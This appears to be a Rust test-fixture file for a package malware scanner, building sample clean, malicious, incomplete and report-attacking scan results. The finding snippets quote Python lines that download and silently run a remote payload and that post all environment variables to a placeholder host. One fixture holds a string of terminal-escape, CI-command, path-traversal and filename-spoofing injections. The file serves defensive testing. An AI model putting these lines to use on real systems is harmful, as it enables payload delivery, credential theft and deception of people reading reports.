//! Scans made by hand.  Nothing here comes from a real package: hosts are reserved names, payloads print a word.

use std::sync::Arc;

use venin_model::{
    Behavior, CallClass, Confidence, EventId, Evidence, Finding, Gap, GapKind, Persona, Severity, Site,
    Technique, Trigger, Vector, Verdict,
};
use venin_report::{ArtifactReport, Isolation, Problem, RunReport, Timings, Tool};
use venin_scan::{ArtifactKind, Coverage, Indicators, Scan, Sequence, SequenceStep, Share};

fn blank(name: &str, file: &str) -> Scan {
    Scan {
        name: Some(name.to_owned()),
        version: Some("1.0.2".to_owned()),
        file: file.to_owned(),
        sha256: "ab".repeat(32),
        size: 4_321,
        kind: ArtifactKind::Sdist,
        verdict: Verdict::Clean,
        score: -4.6,
        prior: -4.6,
        shares: Vec::new(),
        behaviors: Vec::new(),
        vectors: Vec::new(),
        triggers: [].into_iter().collect(),
        techniques: Vec::new(),
        findings: Vec::new(),
        sequences: Vec::new(),
        indicators: Indicators::default(),
        coverage: Coverage { members: 12, bytes: 40_960, python: 9, layers: 0, gaps: Vec::new() },
        attributes: None,
        contents: None,
    }
}

fn site(line: u32, layer: u16, layer_line: u32, snippet: &str) -> Site {
    Site {
        member: Arc::from("greetings-1.0.2/setup.py"),
        line,
        column: 5,
        end_line: line,
        end_column: 0,
        layer,
        layer_line,
        snippet: Arc::from(snippet),
        mark_start: 0,
        mark_length: u32::try_from(snippet.chars().count()).unwrap(),
    }
}

/// The site with this part of its snippet marked.
fn marking(mut site: Site, part: &str) -> Site {
    site.mark_start = u32::try_from(site.snippet.split(part).next().unwrap().chars().count()).unwrap();
    site.mark_length = u32::try_from(part.chars().count()).unwrap();
    site
}

fn step(event: u32, step: &str, detail: &str, site: &Site) -> Evidence {
    Evidence {
        step: Arc::from(step),
        event: Some(EventId(event)),
        site: Some(site.clone()),
        detail: Arc::from(detail),
    }
}

/// A finding with neither steps nor place.
fn fact(rule: &str, title: &str, technique: Technique, message: &str) -> Finding {
    Finding {
        rule: Arc::from(rule),
        title: Arc::from(title),
        behavior: None,
        technique: Some(technique),
        severity: Severity::Low,
        confidence: Confidence::Medium,
        weight: 0.4,
        message: Arc::from(message),
        site: None,
        decoding: Vec::new(),
        trigger: Trigger::Data,
        origins: Vec::new(),
        attack: Vec::new(),
        evidence: Vec::new(),
        further: 0,
    }
}

/// Everything was looked at and nothing was found.
pub(crate) fn benign() -> Scan {
    blank("greetings", "greetings-1.0.2.tar.gz")
}

fn dropper_finding() -> Finding {
    let fetch = site(14, 2, 3, "body = rq.get('http://cdn.invalid/stage.bin').content");
    let fetch = marking(fetch, "rq.get('http://cdn.invalid/stage.bin')");
    let write = site(14, 2, 4, "open(path, 'wb').write(body)");
    let run = site(14, 2, 5, "subprocess.Popen([path], creationflags=0x08000000)");
    Finding {
        rule: Arc::from("download-then-run"),
        title: Arc::from("Downloads a file and runs it"),
        behavior: Some(Behavior::CommandExecution),
        technique: Some(Technique::ExternalPayload),
        severity: Severity::Critical,
        confidence: Confidence::High,
        weight: 6.25,
        message: Arc::from("the file from `http://cdn.invalid/stage.bin` is written and started"),
        site: Some(run.clone()),
        decoding: ["base64.b64decode", "zlib.decompress"].repeat(2).into_iter().map(Arc::from).collect(),
        trigger: Trigger::Install,
        origins: vec![Arc::from("network (requests.get, line 3)"), Arc::from("file (open, line 4)")],
        attack: vec![Arc::from("T1105"), Arc::from("T1059.006")],
        evidence: vec![
            step(4, "Cn.fetch requests.get", "url `http://cdn.invalid/stage.bin`", &fetch),
            step(5, "Cf.write open", "path `stage.bin`", &write),
            step(6, "Cs.spawn subprocess.Popen", "command `stage.bin`", &run),
        ],
        further: 2,
    }
}

fn stealer_finding() -> Finding {
    let read = site(21, 0, 21, "secrets = dict(os.environ)");
    let mut send = site(22, 0, 22, "requests.post('https://hook.invalid/in', json=secrets)");
    send.end_column = 59;
    let read = marking(read, "os.environ");
    Finding {
        rule: Arc::from("environment-to-network"),
        title: Arc::from("Sends environment variables out"),
        behavior: Some(Behavior::InformationStealing),
        technique: None,
        severity: Severity::High,
        confidence: Confidence::Medium,
        weight: 4.0,
        message: Arc::from("the whole environment goes to `https://hook.invalid/in`"),
        site: Some(send.clone()),
        decoding: vec![Arc::from("base64.b64decode")],
        trigger: Trigger::Import,
        origins: vec![Arc::from("env (os.environ, line 21)")],
        attack: vec![Arc::from("T1082")],
        evidence: vec![
            step(9, "Ch.env os.environ", "", &read),
            step(10, "Cn.send requests.post", "url `https://hook.invalid/in`", &send),
        ],
        further: 0,
    }
}

/// Another rule's finding at the place of the dropper.
fn layer_finding() -> Finding {
    let mut finding = dropper_finding();
    finding.rule = Arc::from("hidden-layer-acts");
    finding.title = Arc::from("Code that only a decoding reveals starts programs");
    finding.behavior = None;
    finding.technique = Some(Technique::CodeObfuscation);
    finding.evidence.truncate(1);
    finding.further = 0;
    finding
}

fn dropper_sequence() -> Sequence {
    let site = site(14, 2, 3, "");
    let steps = [("Cn.fetch", "requests.get"), ("Cf.write", "open"), ("Cs.spawn", "subprocess.Popen")];
    let step = |(class, name): (&str, &str)| SequenceStep {
        class: CallClass::parse(class).unwrap(),
        name: Arc::from(name),
        site: site.clone(),
        is_cited: true,
    };
    Sequence { trigger: Trigger::Install, steps: steps.into_iter().map(step).collect(), omitted: 2 }
}

/// Two behaviors, two layers, and a technique.
pub(crate) fn malicious() -> Scan {
    let share = |rule: &str, log_odds: f64, reason: Option<&str>| Share {
        rule: Arc::from(rule),
        log_odds,
        reason: reason.map(Arc::from),
    };
    Scan {
        verdict: Verdict::Malicious,
        prior: -4.595,
        score: -4.595 + 6.25 + 2.6655 + 0.1333,
        shares: vec![
            share("download-then-run", 6.25, None),
            share("environment-to-network", 2.6655, Some("shares the request with `download-then-run`")),
            share("silent-name", 0.1333, None),
        ],
        behaviors: vec![Behavior::InformationStealing, Behavior::CommandExecution],
        vectors: vec![Vector::Install, Vector::Import],
        triggers: [Trigger::Install, Trigger::Import].into_iter().collect(),
        techniques: vec![Technique::ExternalPayload, Technique::Impersonation],
        findings: vec![
            dropper_finding(),
            stealer_finding(),
            layer_finding(),
            fact(
                "name-like-a-popular-one",
                "Name resembles another project",
                Technique::Impersonation,
                "one letter away",
            ),
        ],
        sequences: vec![dropper_sequence()],
        indicators: Indicators {
            urls: vec!["http://cdn.invalid/stage.bin".to_owned(), "https://hook.invalid/in".to_owned()],
            hosts: vec!["cdn.invalid".to_owned(), "hook.invalid".to_owned()],
            ips: vec!["192.0.2.7".to_owned()],
            tokens: vec!["ghp_****".to_owned()],
            ..Indicators::default()
        },
        coverage: Coverage { members: 4, bytes: 2_048, python: 4, layers: 2, gaps: Vec::new() },
        ..blank("greetings", "greetings-1.0.2.tar.gz")
    }
}

/// Nothing was found, but a member was out of reach.
pub(crate) fn incomplete() -> Scan {
    let mut scan = blank("greetings", "greetings-1.0.2.tar.gz");
    scan.verdict = Verdict::Incomplete;
    scan.coverage.gaps = vec![
        Gap::of_artifact(GapKind::ArchiveBudget, "4,097 members, and no more than 4,096 are read"),
        Gap::of_member(
            Arc::from("greetings/deep.py"),
            GapKind::Nesting,
            "more than 400 levels from line 7 on",
        ),
        Gap::of_member(Arc::from("greetings/model.bin"), GapKind::Unsupported, "no reader for this format"),
    ];
    scan
}

/// Strings that attack the reader of the report.
pub(crate) fn hostile() -> Scan {
    let mut scan = malicious();
    let evil =
        "\x1b[2J\x1b]8;;http://x.invalid\x07click\r\n::stop-commands::x\u{202e}fdp.exe\u{200b}\u{9b}31m";
    scan.name = Some(format!("evil{evil}"));
    scan.file = format!("a/../{evil}.whl");
    let mut finding = stealer_finding();
    finding.title = Arc::from(format!("title {evil}"));
    finding.message = Arc::from(format!("[link](javascript:x) ##[error] {evil}"));
    finding.origins = vec![Arc::from(evil)];
    finding.decoding = vec![Arc::from(evil)];
    if let Some(site) = &mut finding.site {
        site.member = Arc::from(format!("../../{evil}.py"));
        site.snippet = Arc::from(format!("x = '{evil}'; {} requests.post(secrets)", "漢字".repeat(60)));
        *site = marking(site.clone(), "requests.post(secrets)");
    }
    finding.evidence[1].site = finding.site.clone();
    scan.findings = vec![finding];
    scan.indicators = Indicators { urls: vec![format!("http://a.invalid/{evil}")], ..Indicators::default() };
    scan.coverage.gaps = vec![Gap::of_member(Arc::from(evil), GapKind::Encoding, evil)];
    scan.score = f64::INFINITY;
    scan
}

/// The report, as the binary completes it.
pub(crate) fn report(scan: &Scan) -> ArtifactReport {
    let mut report = ArtifactReport::from(scan);
    report.isolated = Isolation { isolated: true, how: Some("landlock+seccomp".to_owned()), reason: None };
    report.timings = Timings { wall_ms: 12.5, cpu_ms: Some(11.25) };
    report
}

/// A run over all of them, with a target that does not exist.
pub(crate) fn run() -> RunReport {
    let tool = Tool { name: "venin".to_owned(), version: "0.1.0".to_owned(), rules: 48 };
    let artifacts = [benign(), malicious(), incomplete(), hostile()].iter().map(report).collect();
    let problem = Problem {
        target: "missing.whl".to_owned(),
        error: "cannot read `missing.whl`: no such file".to_owned(),
        hint: Some("check the path".to_owned()),
    };
    RunReport::new(tool, Persona::Team, artifacts, vec![problem])
}
